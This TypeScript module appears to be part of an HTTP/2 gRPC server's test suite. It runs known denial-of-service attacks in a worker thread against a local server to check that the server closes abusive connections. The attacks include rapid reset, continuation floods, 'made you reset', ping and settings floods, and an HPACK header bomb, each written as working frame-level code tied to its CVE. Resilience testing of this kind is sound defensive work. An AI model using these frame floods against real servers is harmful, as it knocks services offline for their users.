import { setTimeout as wait } from "node:timers/promises";
import { parentPort, workerData } from "node:worker_threads";
import { closeOf, rawCall, rawSession } from "@interlock/bot/testing";
import { callHeaders, connectRaw, flag, frame, frameType, headerBlock } from "./raw-http2.js";

/** The input of an attacker, which runs in a thread of its own, so that its work does not slow the server. */
export interface Assault {
  readonly kind: keyof typeof assaults;
  readonly port: number;
  readonly path: string;
  /** Key and certificate, PEM. */
  readonly key: string;
  readonly cert: string;
}

/** The result of an attack. */
export interface Outcome {
  /** Whether the server closed the connection before the attacker had finished. */
  readonly closed: boolean;
  /** The number of calls or frames that were sent. */
  readonly sent: number;
  /** The numbers of answers by gRPC status; `none` for calls without an answer. */
  readonly statuses: Readonly<Record<string, number>>;
}

const most = 30_000;
/** When an attacker that does not read takes the server for one that does not read either, in milliseconds. */
const stuckMs = 1_000;
const never = new Promise<never>(() => {});

/** The headers of a call that goes on. */
function head({ path }: Assault, stream: number): Buffer {
  return frame(frameType.headers, flag.endHeaders, stream, headerBlock(callHeaders(path)));
}

function windowUpdate(stream: number, increment: number): Buffer {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(increment);
  return frame(frameType.windowUpdate, 0, stream, payload);
}

const assaults = {
  /** Opens streams and resets them at once (CVE-2023-44487). */
  rapidReset: (assault: Assault) =>
    framesOf(assault, (i) => {
      const stream = 2 * i + 1;
      const block = headerBlock(callHeaders(assault.path));
      const cancel = Buffer.of(0, 0, 0, 8);
      return Buffer.concat([
        frame(frameType.headers, flag.endHeaders, stream, block),
        frame(frameType.rstStream, 0, stream, cancel),
      ]);
    }),

  /** Headers that never end (CVE-2024-27316 and its like). */
  continuation: (assault: Assault) =>
    framesOf(assault, (i) =>
      i === 0
        ? frame(frameType.headers, 0, 1, headerBlock(callHeaders(assault.path)))
        : frame(frameType.continuation, 0, 1, headerBlock([[`x-${i}`, "a".repeat(1_000)]])),
    ),

  /** The same with empty frames. */
  emptyContinuation: (assault: Assault) =>
    framesOf(assault, (i) =>
      i === 0
        ? frame(frameType.headers, 0, 1, headerBlock(callHeaders(assault.path)))
        : frame(frameType.continuation, 0, 1),
    ),

  /** Makes faults in streams, so that the server resets them (CVE-2025-8671, "made you reset"). */
  madeYouReset: (assault: Assault) =>
    framesOf(assault, (i) => Buffer.concat([head(assault, 2 * i + 1), windowUpdate(2 * i + 1, 0)])),

  /** CVE-2019-9514: requests that are malformed, which the server resets. */
  malformedRequests: (assault: Assault) =>
    framesOf(assault, (i) => frame(frameType.headers, flag.endHeaders, 2 * i + 1, headerBlock([["upper", "case"]]))),

  /** CVE-2019-9512. */
  pings: (assault: Assault) => framesOf(assault, () => frame(frameType.ping, 0, 0, Buffer.alloc(8))),

  /** CVE-2019-9517 and 9512: the same, and nothing that the server says is read. */
  unreadPings: (assault: Assault) =>
    framesOf(assault, () => Buffer.concat(Array(100).fill(frame(frameType.ping, 0, 0, Buffer.alloc(8)))), false),

  /** CVE-2019-9515. */
  settings: (assault: Assault) => framesOf(assault, () => frame(frameType.settings, 0, 0)),

  /** CVE-2019-9518. */
  emptyFrames: (assault: Assault) =>
    framesOf(assault, (i) => (i === 0 ? head(assault, 1) : frame(frameType.data, 0, 1))),

  /** CVE-2019-9513. */
  priorities: (assault: Assault) =>
    framesOf(assault, (i) =>
      i === 0 ? head(assault, 1) : frame(frameType.priority, 0, 1, Buffer.of(0, 0, 0, i % 2 ? 3 : 5, 1)),
    ),

  /** Windows that grow by one byte. */
  windows: (assault: Assault) => framesOf(assault, () => windowUpdate(0, 1)),

  /** CVE-2016-8740, CVE-2019-9516: header fields with names and values of no length. */
  emptyHeaders: (assault: Assault) =>
    framesOf(assault, (i) =>
      frame(frameType.headers, flag.endHeaders, 2 * i + 1, headerBlock(Array(100).fill(["", ""]))),
    ),

  /** A header list that unpacks to megabytes: one field of the table, thousands of times. */
  headerBomb: (assault: Assault) =>
    framesOf(assault, (i) => {
      const planted = Buffer.concat([Buffer.of(0x40, 1, 0x78, 127, 0xa1, 0x1e), Buffer.alloc(4_000, "b")]);
      const bomb = i === 0 ? planted : Buffer.alloc(12_000, 0xbe);
      const block = Buffer.concat([headerBlock(callHeaders(assault.path)), bomb]);
      return frame(frameType.headers, flag.endHeaders | flag.endStream, 2 * i + 1, block);
    }),

  /** Frames of a type that does not exist. */
  unknownFrames: (assault: Assault) => framesOf(assault, () => frame(0xee, 0, 0)),

  /** Valid calls, as many as possible. */
  async goodCalls({ port, path, key, cert }: Assault): Promise<Outcome> {
    const session = rawSession(port, { key, cert });
    const statuses: Record<string, number> = {};
    let sent = 0;
    async function keepCalling(): Promise<void> {
      while (sent < most && !session.closed && !session.destroyed) {
        sent++;
        const { status = "none" } = await rawCall(session, path).catch(() => ({ status: undefined }));
        statuses[status] = (statuses[status] ?? 0) + 1;
      }
    }
    // When the connection ends, a call may never be notified, and now and then neither is the session.
    const ended = closeOf(session).then(() => new Promise((resolve) => setTimeout(resolve, 500)));
    const silence = silenceOf(() => Object.values(statuses).reduce((sum, count) => sum + count, 0));
    await Promise.race([Promise.all(Array.from({ length: 200 }, keepCalling)), ended, silence]);
    const closed = session.destroyed || session.closed;
    session.destroy();
    return { closed, sent, statuses };
  },
};

/** Resolves when a count has not changed for two seconds. */
function silenceOf(count: () => number): Promise<void> {
  return new Promise((resolve) => {
    let before = -1;
    const timer = setInterval(() => {
      const now = count();
      if (now === before) {
        clearInterval(timer);
        resolve();
      }
      before = now;
    }, 2_000);
  });
}

/**
 * Writes frames until the server reacts: it closes, or it sends GOAWAY. After that Node reads nothing more from the
 * connection, and grpc-js closes it when its keepalive is not answered.
 */
async function framesOf({ port, key, cert }: Assault, frameOf: (i: number) => Buffer, reads = true): Promise<Outcome> {
  const connection = await connectRaw(port, { key, cert });
  if (!reads) connection.socket.pause();
  let sent = 0;
  let enough = false;
  const over = Promise.race([connection.closed, connection.sentAway]).then(() => {
    enough = true;
    return false;
  });
  let stuck = false;
  while (sent < most && !enough && !stuck) {
    const writing = connection.write(frameOf(sent));
    stuck = await Promise.race([writing.then(() => false), over, reads ? never : wait(stuckMs, true)]);
    sent++;
  }
  connection.socket.resume();
  // The last frames may still be on their way.
  const late = new Promise<void>((resolve) => setTimeout(resolve, 5_000).unref());
  await Promise.race([over, late]);
  connection.destroy();
  return { closed: enough, sent, statuses: {} };
}

if (parentPort) {
  const assault = workerData as Assault;
  parentPort.postMessage(await assaults[assault.kind](assault));
}
